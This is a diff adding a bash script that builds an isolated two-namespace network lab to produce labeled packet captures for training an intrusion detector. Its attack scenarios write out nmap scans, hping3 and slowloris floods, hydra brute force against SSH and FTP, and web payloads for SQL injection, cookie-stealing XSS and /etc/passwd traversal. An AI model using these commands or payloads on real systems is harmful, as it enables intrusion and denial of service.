@@ -1,0 +1,276 @@
+#!/usr/bin/env bash
+# CCF-Catcher traffic lab: makes labeled captures on one machine, reproducibly.
+#
+# Two network namespaces (attacker, victim) joined by a veth pair (MTU 1500, fixed MAC addresses).
+# Real servers from Debian packages run in the victim namespace (nginx HTTP/HTTPS, OpenSSH, dnsmasq DNS,
+# vsftpd FTP, iperf3); real clients and attack tools run in the attacker namespace. tcpdump in the victim
+# namespace writes one capture per scenario, and a ground-truth JSON file beside it names the scenario,
+# the label, the attacker and victim addresses and the time window.
+#
+# Safety: all traffic stays inside the namespaces this script creates (10.77.0.0/24 exists only there);
+# every tool runs under `timeout` and with bounded counts; the namespaces, processes and the lab user
+# are removed on exit, whatever happens.
+#
+# Usage: sudo models/training/lab/lab.sh [--out DIR] [--only scenario,scenario] [--list]
+# Needs: iproute2 tcpdump nginx-light openssh-server dnsmasq-base vsftpd iperf3 curl wget dnsutils
+#        nmap hping3 slowhttptest hydra apache2-utils openssl (see models/training/lab/README.md)
+set -euo pipefail
+
+LAB_DIR="$(cd "$(dirname "$0")" && pwd)"
+OUT_DIR="${LAB_DIR}/../../../lab-output"
+ONLY=""
+while (($#)); do
+  case "$1" in
+    --out) OUT_DIR="$2"; shift 2 ;;
+    --only) ONLY="$2"; shift 2 ;;
+    --list) grep -oE '^scenario_[a-z0-9_]+' "$0" | sed 's/^scenario_//'; exit 0 ;;
+    -h|--help) sed -n '2,17p' "$0"; exit 0 ;;
+    *) echo "lab: unknown argument '$1' (try --help)" >&2; exit 1 ;;
+  esac
+done
+
+if [[ $(id -u) -ne 0 ]]; then echo "lab: must run as root (network namespaces)" >&2; exit 1; fi
+for tool in ip tcpdump nginx /usr/sbin/sshd dnsmasq vsftpd iperf3 curl wget dig nmap hping3 slowhttptest hydra ab openssl; do
+  command -v "$tool" >/dev/null || { echo "lab: missing tool '$tool' (apt-get install it; see README)" >&2; exit 1; }
+done
+
+mkdir -p "$OUT_DIR"
+OUT_DIR="$(cd "$OUT_DIR" && pwd)"
+WORK="$(mktemp -d "$OUT_DIR/.lab-work.XXXXXX")"
+ATK=ccflab-atk
+VIC=ccflab-vic
+ATK_IP=10.77.0.2
+VIC_IP=10.77.0.1
+ATK_MAC=02:cc:f0:00:00:02
+VIC_MAC=02:cc:f0:00:00:01
+LAB_USER=ccflab
+LAB_PASS='Lab-pass-7391'
+PIDS=()
+
+log() { printf '[lab %s] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
+
+cleanup() {
+  set +e
+  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
+  sleep 0.3
+  for pid in "${PIDS[@]}"; do kill -9 "$pid" 2>/dev/null; done
+  ip netns pids "$VIC" 2>/dev/null | xargs -r kill -9 2>/dev/null
+  ip netns pids "$ATK" 2>/dev/null | xargs -r kill -9 2>/dev/null
+  ip netns del "$ATK" 2>/dev/null
+  ip netns del "$VIC" 2>/dev/null
+  id "$LAB_USER" >/dev/null 2>&1 && userdel -r "$LAB_USER" >/dev/null 2>&1
+  [[ -n "${KEEP_WORK:-}" ]] || rm -rf "$WORK"
+}
+trap cleanup EXIT
+trap 'exit 130' INT TERM
+
+in_vic() { ip netns exec "$VIC" "$@"; }
+in_atk() { ip netns exec "$ATK" "$@"; }
+
+setup_network() {
+  ip netns del "$ATK" 2>/dev/null || true
+  ip netns del "$VIC" 2>/dev/null || true
+  ip netns add "$ATK"
+  ip netns add "$VIC"
+  ip link add ccflab-a type veth peer name ccflab-v
+  ip link set ccflab-a netns "$ATK"
+  ip link set ccflab-v netns "$VIC"
+  in_atk ip link set ccflab-a address "$ATK_MAC" mtu 1500
+  in_vic ip link set ccflab-v address "$VIC_MAC" mtu 1500
+  in_atk ip addr add "$ATK_IP/24" dev ccflab-a
+  in_vic ip addr add "$VIC_IP/24" dev ccflab-v
+  for ns in "$ATK" "$VIC"; do ip netns exec "$ns" ip link set lo up; done
+  in_atk ip link set ccflab-a up
+  in_vic ip link set ccflab-v up
+  # Offloads off so tcpdump sees wire-sized segments (no 64 KB GSO super-packets), as on a real link.
+  in_atk ethtool -K ccflab-a tso off gso off gro off >/dev/null 2>&1 || true
+  in_vic ethtool -K ccflab-v tso off gso off gro off >/dev/null 2>&1 || true
+  # Reachability check without depending on ping being installed.
+  in_atk bash -c "exec 3<>/dev/tcp/$VIC_IP/9 2>/dev/null" || true
+}
+
+start_servers() {
+  local www="$WORK/www"
+  mkdir -p "$www/app" "$WORK/nginx" "$WORK/ftp" /run/sshd /var/run/vsftpd/empty
+  # Deterministic content: pages and files of fixed sizes.
+  for i in $(seq 1 20); do head -c $((i * 1500)) /dev/zero | tr '\0' 'a' >"$www/page$i.html"; done
+  head -c 2000000 /dev/zero | tr '\0' 'b' >"$www/big.bin"
+  echo '<html><body><form action="/app/login" method="post"></form></body></html>' >"$www/app/index.html"
+  cp "$www/index.html" "$www/index.html" 2>/dev/null || echo '<html>ccf lab</html>' >"$www/index.html"
+
+  openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj '/CN=victim.lab.test' \
+    -keyout "$WORK/nginx/key.pem" -out "$WORK/nginx/cert.pem" >/dev/null 2>&1
+  cat >"$WORK/nginx/nginx.conf" <<EOF
+worker_processes 1;
+pid $WORK/nginx/nginx.pid;
+error_log $WORK/nginx/error.log;
+events { worker_connections 4096; }
+http {
+  access_log off;
+  keepalive_timeout 5;
+  client_body_timeout 10s;
+  client_header_timeout 10s;
+  server {
+    listen $VIC_IP:80;
+    listen $VIC_IP:443 ssl;
+    ssl_certificate $WORK/nginx/cert.pem;
+    ssl_certificate_key $WORK/nginx/key.pem;
+    root $www;
+    location /app/ { try_files \$uri /app/index.html; }
+  }
+}
+EOF
+  in_vic nginx -c "$WORK/nginx/nginx.conf"
+
+  id "$LAB_USER" >/dev/null 2>&1 || useradd -m -s /bin/bash "$LAB_USER"
+  echo "$LAB_USER:$LAB_PASS" | chpasswd
+  head -c 300000 /dev/zero | tr '\0' 'c' >"/home/$LAB_USER/report.dat"
+  chown "$LAB_USER" "/home/$LAB_USER/report.dat"
+  ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh_host_ed25519_key"
+  cat >"$WORK/sshd_config" <<EOF
+Port 22
+ListenAddress $VIC_IP
+HostKey $WORK/ssh_host_ed25519_key
+PasswordAuthentication yes
+KbdInteractiveAuthentication no
+UsePAM yes
+PermitRootLogin no
+MaxAuthTries 100
+MaxStartups 100:30:200
+PidFile $WORK/sshd.pid
+EOF
+  in_vic /usr/sbin/sshd -f "$WORK/sshd_config"
+
+  cat >"$WORK/vsftpd.conf" <<EOF
+listen=YES
+listen_address=$VIC_IP
+local_enable=YES
+write_enable=NO
+anonymous_enable=NO
+pam_service_name=vsftpd
+secure_chroot_dir=/var/run/vsftpd/empty
+seccomp_sandbox=NO
+pasv_enable=YES
+pasv_min_port=30000
+pasv_max_port=30100
+max_login_fails=1000
+delay_failed_login=0
+EOF
+  in_vic vsftpd "$WORK/vsftpd.conf" &
+  PIDS+=($!)
+
+  in_vic dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces --listen-address="$VIC_IP" \
+    --address=/lab.test/"$VIC_IP" --address=/example.lab/"$VIC_IP" --pid-file="$WORK/dnsmasq.pid" >/dev/null 2>&1 &
+  PIDS+=($!)
+  in_vic iperf3 -s -B "$VIC_IP" >/dev/null 2>&1 &
+  PIDS+=($!)
+  sleep 1
+}
+
+# run_scenario NAME LABEL FAMILY COMMAND...: captures the command's traffic into NAME.pcap with ground truth.
+run_scenario() {
+  local name="$1" label="$2" family="$3"
+  shift 3
+  if [[ -n "$ONLY" && ",$ONLY," != *",$name,"* ]]; then return 0; fi
+  local pcap="$OUT_DIR/$name.pcap"
+  log "scenario $name ($label)"
+  # Started directly (not through a shell function) so $! is tcpdump itself; background jobs of a
+  # non-interactive shell ignore SIGINT, so it is stopped with SIGTERM, which tcpdump also handles cleanly.
+  ip netns exec "$VIC" tcpdump -Z root -i ccflab-v -s 0 -U -w "$pcap" >/dev/null 2>&1 &
+  local dump=$!
+  sleep 1
+  local started
+  started="$(date -u +%Y-%m-%dT%H:%M:%S.%3NZ)"
+  "$@" >"$WORK/$name.out" 2>&1 || true
+  sleep 1
+  local ended
+  ended="$(date -u +%Y-%m-%dT%H:%M:%S.%3NZ)"
+  kill -TERM "$dump"
+  wait "$dump" 2>/dev/null || true
+  cat >"$OUT_DIR/$name.json" <<EOF
+{"scenario":"$name","label":"$label","family":"$family","attacker":"$ATK_IP","victim":"$VIC_IP","capture":"$name.pcap","started":"$started","ended":"$ended"}
+EOF
+}
+
+# ---- benign scenarios: attacker namespace acting as an ordinary client ----
+scenario_benign_web() {
+  for round in 1 2 3; do
+    for i in $(seq 1 20); do timeout 10 curl -s -o /dev/null "http://$VIC_IP/page$i.html"; done
+    for i in $(seq 1 10); do timeout 10 curl -sk -o /dev/null "https://$VIC_IP/page$i.html"; done
+    timeout 20 wget -q -O /dev/null "http://$VIC_IP/big.bin"
+    sleep "0.$round"
+  done
+}
+scenario_benign_dns() { for i in $(seq 1 60); do timeout 5 dig +short +tries=1 "host$i.lab.test" @"$VIC_IP" >/dev/null; done; }
+scenario_benign_ssh() {
+  for i in 1 2 3; do
+    timeout 20 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+      "$LAB_USER@$VIC_IP" "ls -la; uname -a" >/dev/null
+    timeout 20 sshpass -p "$LAB_PASS" scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+      "$LAB_USER@$VIC_IP:report.dat" "$WORK/report.copy" >/dev/null
+  done
+}
+scenario_benign_ftp() {
+  for i in 1 2 3 4 5; do timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"; done
+}
+scenario_benign_bulk() { timeout 15 iperf3 -c "$VIC_IP" -t 3 -b 50M >/dev/null; timeout 15 iperf3 -c "$VIC_IP" -t 2 -R -b 20M >/dev/null; }
+
+# ---- attacks: bounded counts and times ----
+scenario_portscan_syn() { timeout 120 nmap -n -Pn -sS -p 1-2000 -T4 "$VIC_IP"; }
+scenario_portscan_connect() { timeout 120 nmap -n -Pn -sT -p 1-1500 -T4 "$VIC_IP"; }
+scenario_portscan_fin_xmas_null() {
+  timeout 60 nmap -n -Pn -sF -p 1-400 -T4 "$VIC_IP"
+  timeout 60 nmap -n -Pn -sX -p 1-400 -T4 "$VIC_IP"
+  timeout 60 nmap -n -Pn -sN -p 1-400 -T4 "$VIC_IP"
+}
+scenario_portscan_udp() { timeout 120 nmap -n -Pn -sU -p 1-200 --max-retries 1 -T4 "$VIC_IP"; }
+scenario_portscan_version() { timeout 120 nmap -n -Pn -sV -p 21,22,53,80,443,5201 "$VIC_IP"; }
+scenario_dos_syn_flood() { timeout 60 hping3 -S -p 80 -i u100 -c 20000 "$VIC_IP"; }
+scenario_dos_udp_flood() { timeout 60 hping3 --udp -p 53 -i u200 -d 120 -c 15000 "$VIC_IP"; }
+scenario_dos_icmp_flood() { timeout 60 hping3 --icmp -i u200 -d 64 -c 10000 "$VIC_IP"; }
+scenario_dos_http_flood() { timeout 90 ab -n 15000 -c 50 "http://$VIC_IP/index.html"; }
+scenario_slow_dos_slowloris() { timeout 60 slowhttptest -H -c 300 -r 100 -i 5 -l 30 -u "http://$VIC_IP/" -p 3; }
+scenario_slow_dos_slowbody() { timeout 60 slowhttptest -B -c 200 -r 100 -i 5 -l 30 -s 8192 -u "http://$VIC_IP/app/login" -p 3; }
+scenario_brute_force_ssh() {
+  timeout 120 hydra -l "$LAB_USER" -P "$LAB_DIR/wordlist.txt" -t 4 -f -I "ssh://$VIC_IP"
+}
+scenario_brute_force_ftp() {
+  timeout 120 hydra -l "$LAB_USER" -P "$LAB_DIR/wordlist.txt" -t 4 -I "ftp://$VIC_IP"
+}
+scenario_web_attack() {
+  local payloads=("id=1%27%20OR%20%271%27=%271" "q=%3Cscript%3Ealert(1)%3C/script%3E" "file=../../../../etc/passwd"
+    "id=1%20UNION%20SELECT%20username,password%20FROM%20users--" "name=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E")
+  for round in $(seq 1 30); do
+    for payload in "${payloads[@]}"; do timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/search?$payload&r=$round"; done
+    timeout 5 curl -s -o /dev/null -d "user=admin&pass=guess$round" "http://$VIC_IP/app/login"
+  done
+}
+
+setup_network
+start_servers
+command -v sshpass >/dev/null || { echo "lab: missing tool 'sshpass'" >&2; exit 1; }
+
+export VIC_IP LAB_USER LAB_PASS LAB_DIR WORK
+# atk FUNCTION: runs one scenario function inside the attacker namespace.
+atk() { in_atk bash -c "$(declare -f "$1"); $1"; }
+
+run_scenario benign_web BENIGN benign atk scenario_benign_web
+run_scenario benign_dns BENIGN benign atk scenario_benign_dns
+run_scenario benign_ssh BENIGN benign atk scenario_benign_ssh
+run_scenario benign_ftp BENIGN benign atk scenario_benign_ftp
+run_scenario benign_bulk BENIGN benign atk scenario_benign_bulk
+run_scenario portscan_syn Portscan portscan atk scenario_portscan_syn
+run_scenario portscan_connect Portscan portscan atk scenario_portscan_connect
+run_scenario portscan_fin_xmas_null Portscan portscan atk scenario_portscan_fin_xmas_null
+run_scenario portscan_udp Portscan portscan atk scenario_portscan_udp
+run_scenario portscan_version Portscan portscan atk scenario_portscan_version
+run_scenario dos_syn_flood 'DoS SYN flood' dos atk scenario_dos_syn_flood
+run_scenario dos_udp_flood 'DoS UDP flood' dos atk scenario_dos_udp_flood
+run_scenario dos_icmp_flood 'DoS ICMP flood' dos atk scenario_dos_icmp_flood
+run_scenario dos_http_flood 'DoS HTTP flood' dos atk scenario_dos_http_flood
+run_scenario slow_dos_slowloris 'DoS Slowloris' slow_dos atk scenario_slow_dos_slowloris
+run_scenario slow_dos_slowbody 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowbody
+run_scenario brute_force_ssh SSH-Patator brute_force atk scenario_brute_force_ssh
+run_scenario brute_force_ftp FTP-Patator brute_force atk scenario_brute_force_ftp
+run_scenario web_attack 'Web Attack' web_attack atk scenario_web_attack
+log "done: captures and ground truth in $OUT_DIR"
